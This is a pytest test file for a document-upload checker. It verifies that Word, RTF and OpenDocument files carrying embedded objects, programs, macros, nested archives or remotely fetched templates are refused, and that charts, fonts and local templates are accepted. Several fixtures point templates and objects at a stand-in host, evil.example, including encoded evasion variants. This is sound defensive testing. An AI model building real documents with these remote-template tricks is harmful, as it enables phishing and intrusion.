"""Is a document refused that holds, or fetches, a macro, a control, a program or an object, whatever it is called?"""

from __future__ import annotations

import pytest

from tests import files
from tests.files import odt, word, zipped
from workflow.files.contents import type_of
from workflow.files.types import DOCX, RTF, NotTaken

RELS = "word/_rels/settings.xml.rels"


def related(target: str, kind: str = "attachedTemplate", encoding: str = "utf-8") -> bytes:
    """A Word document that takes something from outside."""
    one = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return word(
        **{RELS: f'<?xml version="1.0" encoding="{encoding}"?><Relationships>{one}</Relationships>'.encode(encoding)}
    )


def workbook(**more: bytes | str) -> bytes:
    return zipped({"[Content_Types].xml": "spreadsheetml", "xl/workbook.xml": "<x/>", **more})


def templated(path: bytes) -> bytes:
    return b"{\\rtf1 {\\*\\template " + path + b"} Ivy.}"


BAD: dict[str, tuple[bytes, str]] = {
    "a Word document with an object": (word(**{"word/embeddings/oleObject1.bin": files.OLD_OFFICE}), "an embedded object"),
    "... under another name": (word(**{"word/media/image1.png": files.OLD_OFFICE}), "an embedded object"),
    "a Word document with a program under another name": (word(**{"word/media/image1.png": files.EXE}), "a program"),
    "a Word document with an installer": (word(**{"word/embeddings/setup.MSI": b"x"}), "a program"),
    "a Word document with a control panel": (word(**{"word/embeddings/a.cpl": b"x"}), "a program"),
    "a Word document with a shortcut of old": (word(**{"word/embeddings/a.pif": b"x"}), "a program"),
    "a Word document with a workbook with macros": (
        word(**{"word/embeddings/a.bin": workbook(**{"xl/octet-stream": files.OLD_OFFICE})}), "an embedded object"),
    "... by their name": (word(**{"word/embeddings/a.xlsm": workbook(**{"xl/vbaProject.bin": b"x"})}), "macros"),
    "... by its type": (
        word(**{"word/embeddings/a": zipped({"[Content_Types].xml": "sheet.macroEnabled.main"})}), "with macros"),
    "a Word document with an archive": (word(**{"word/embeddings/a.zip": zipped({"a.txt": "x"})}), "another archive"),
    "a Word document with a file in a file": (
        word(**{"word/embeddings/a.xlsx": workbook(**{"xl/embeddings/b.docx": word()})}), "a file within a file"),
    "a Word document with a damaged file": (word(**{"word/embeddings/a.xlsx": workbook()[:-30]}), "damaged"),
    "a Word document whose template is fetched": (related("http://evil.example/a.dotm"), "fetches a template"),
    "... in other words": (related("ht&#116;ps&#58;//evil.example/a"), "fetches a template"),
    "... in other letters": (related("http://evil.example/a", encoding="utf-16"), "fetches a template"),
    "... by a share that is none": (related("\\\\evil.example@80\\a.dotm"), "fetches a template"),
    "a Word document whose object is fetched": (related("https://evil.example/a", "oleObject"), "fetches a template"),
    "a Word document whose list of parts is damaged": (word(**{RELS: "<Relationships>"}), "damaged"),
    "rich text whose template is fetched": (templated(b"http://evil.example/a.dot"), "fetches a template"),
    "... in figures": (templated(rb"\'68ttp:"), "fetches a template"),
    "an OpenDocument text with an object": (odt(**{"Object 1": files.OLD_OFFICE}), "an embedded object"),
}  # fmt: skip
GOOD = {
    "a Word document with a chart": word(**{"word/embeddings/a.xlsx": workbook()}),
    "a Word document of the office's template": related("file:///\\\\fs01.example.gov.uk\\a.dotx"),
    "... on a drive": related("C:\\Templates\\a.dotx"),
    "a Word document with a link": related("https://www.example.gov.uk/", "hyperlink"),
    "a Word document with its font": word(**{"word/fonts/font1.odttf": files.EXE}),
    "rich text of a template on a drive": templated(rb"C:\\Templates\\a.dot"),
}


@pytest.mark.parametrize("what", BAD)
def test_what_could_do_harm_is_refused_with_a_sentence_that_says_what_was_found(what: str) -> None:
    content, said = BAD[what]
    with pytest.raises(NotTaken, match=said) as refused:
        type_of(content)
    assert str(refused.value).endswith(".")


@pytest.mark.parametrize("what", GOOD)
def test_what_belongs_to_a_document_is_left_in_it(what: str) -> None:
    assert type_of(GOOD[what]) in (DOCX, RTF)
